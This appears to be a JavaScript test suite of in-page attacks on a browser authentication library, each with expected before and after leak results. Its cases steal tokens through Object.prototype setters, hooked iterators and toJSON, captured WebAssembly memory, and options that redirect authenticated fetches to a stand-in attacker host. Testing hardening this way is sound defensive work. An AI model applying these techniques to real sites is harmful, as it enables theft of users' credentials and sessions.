// What can be reached by walking: objects and their prototypes, memory, other windows; and traps laid in what the app hands over.

const TOKENS = ["token", "access_token", "accessToken", "refresh_token", "refreshToken", "authorization", "x-access-token"];
const NAMES = [...TOKENS, "headers", "body", "session"];

/** Whatever is assigned to a property of these names, of any object. */
function trap(loot, names) {
  for (const name of names) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(value) {
        loot(value);
        Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true });
      },
    });
  }
}

/** A frame or window of this page's origin. */
async function frame(src) {
  const frame = document.createElement("iframe");
  if (src) frame.src = src;
  const loaded = new Promise((resolve) => (frame.onload = resolve));
  document.body.append(frame);
  if (src) await loaded;
  return frame.contentWindow;
}

export default [
  {
    name: "everything that hangs on window and auth",
    after: "token no no no",
    async run({ ransack, worked }) {
      await worked;
      ransack([window.auth, window.auth.session, window.settings]);
      ransack({ ...window });
    },
  },
  {
    name: "WebAssembly memory",
    before: "token token no no",
    async run({ ransack, worked }) {
      const { instantiate, instantiateStreaming, Memory } = WebAssembly;
      const memories = [];
      const keep = ({ instance, exports } = {}) => {
        for (const value of Object.values((instance?.exports ?? exports) || {})) if (value instanceof Memory) memories.push(value);
      };
      for (const [name, native] of Object.entries({ instantiate, instantiateStreaming })) {
        WebAssembly[name] = async (...args) => {
          const made = await native(...args);
          keep(made);
          return made;
        };
      }
      await worked;
      ransack(memories.map(({ buffer }) => buffer));
    },
  },
  {
    name: "setters on Object.prototype",
    before: "token no no no",
    after: "token no no no",
    async run({ loot, worked }) {
      trap(loot, NAMES);
      await worked;
      for (const name of NAMES) delete Object.prototype[name];
    },
  },
  {
    name: "Object.prototype.then and toJSON",
    before: "token token no no",
    after: "token token no no",
    async run({ loot, worked }) {
      for (const name of ["then", "toJSON"]) {
        Object.defineProperty(Object.prototype, name, {
          configurable: true,
          get() {
            loot(this);
          },
        });
      }
      await worked;
      for (const name of ["then", "toJSON"]) delete Object.prototype[name];
    },
  },
  {
    name: "the iterator of Array.prototype",
    before: "token token password password",
    after: "token token no no",
    async run({ loot, worked }) {
      const iterate = Array.prototype[Symbol.iterator];
      Array.prototype[Symbol.iterator] = function () {
        loot(this);
        return Reflect.apply(iterate, this, []);
      };
      await worked;
      Array.prototype[Symbol.iterator] = iterate;
    },
  },
  {
    name: "options with getters, which show the page one list and the engine another",
    after: "token no no no",
    pageOptions: { storage: "local" },
    async run({ loot, outcome, attacker }) {
      let reads = 0;
      const attach = {
        get to() {
          return reads++ ? [attacker] : ["/api"];
        },
      };
      const second = window.createAuth({ ...window.settings, attach });
      loot(await outcome(second.ready));
      await outcome(second.fetch(`${attacker}/got`));
    },
  },
  {
    name: "options behind a Proxy",
    after: "token token no no",
    pageOptions: { storage: "local" },
    async run({ loot, outcome, attacker }) {
      const handler = {
        get(target, name) {
          const value = Reflect.get(target, name);
          loot(value);
          if (name === "to") return [attacker, "/api"];
          return value !== null && typeof value === "object" ? new Proxy(value, handler) : value;
        },
      };
      const made = await outcome((async () => window.createAuth(new Proxy({ ...window.settings }, handler)))());
      await outcome((async () => made.ready)());
      await outcome((async () => made.fetch(`${attacker}/got`))());
    },
  },
  {
    name: "a second Auth of the same name",
    after: "token token no no",
    pageOptions: { storage: "local" },
    async run({ loot, outcome }) {
      const { createAuth } = window.settings.isolation ? await import("/pkg/worker.js") : window;
      const second = createAuth(window.settings);
      await outcome(second.ready);
      loot(await outcome(second.token()), second.session);
    },
  },
  {
    name: "a second Auth of the same name, in the page",
    after: "token token no no",
    pageOptions: { storage: "local" },
    async run({ loot, outcome }) {
      const { isolation, ...settings } = window.settings;
      const { createAuth } = isolation ? await import("/pkg/index.js") : window;
      const second = createAuth(settings);
      await outcome(second.ready);
      loot(await outcome(second.token()), await outcome(second.refresh()), second.session);
    },
  },
  {
    name: "an iframe with natives of its own",
    after: "token no no no",
    async run({ loot, outcome, ransack }) {
      const other = await frame();
      loot({ ...other.localStorage }, other.document.cookie, await outcome(other.caches.keys()));
      for (const name of ["fetch", "Request", "Headers", "Response", "Promise", "JSON"]) window[name] = other[name];
      const response = await window.auth.fetch("/api/something");
      ransack([response, other]);
    },
  },
  {
    name: "the app once more, in an iframe",
    after: "token no no no",
    async run({ loot, outcome, ransack }) {
      const other = await frame("/attacks/pages/frame.html");
      const app = await other.begin(window.settings);
      loot(await outcome(app.token()));
      ransack([app.session, { ...other.localStorage }]);
    },
  },
  {
    name: "the app once more, in a window that it opens",
    after: "token no no no",
    async run({ loot, outcome, ransack }) {
      const other = window.open("/attacks/pages/frame.html");
      await new Promise((resolve) => (other.onload = resolve));
      const app = await other.begin(window.settings);
      loot(await outcome(app.token()));
      ransack([app.session, { ...other.localStorage }]);
    },
  },
];
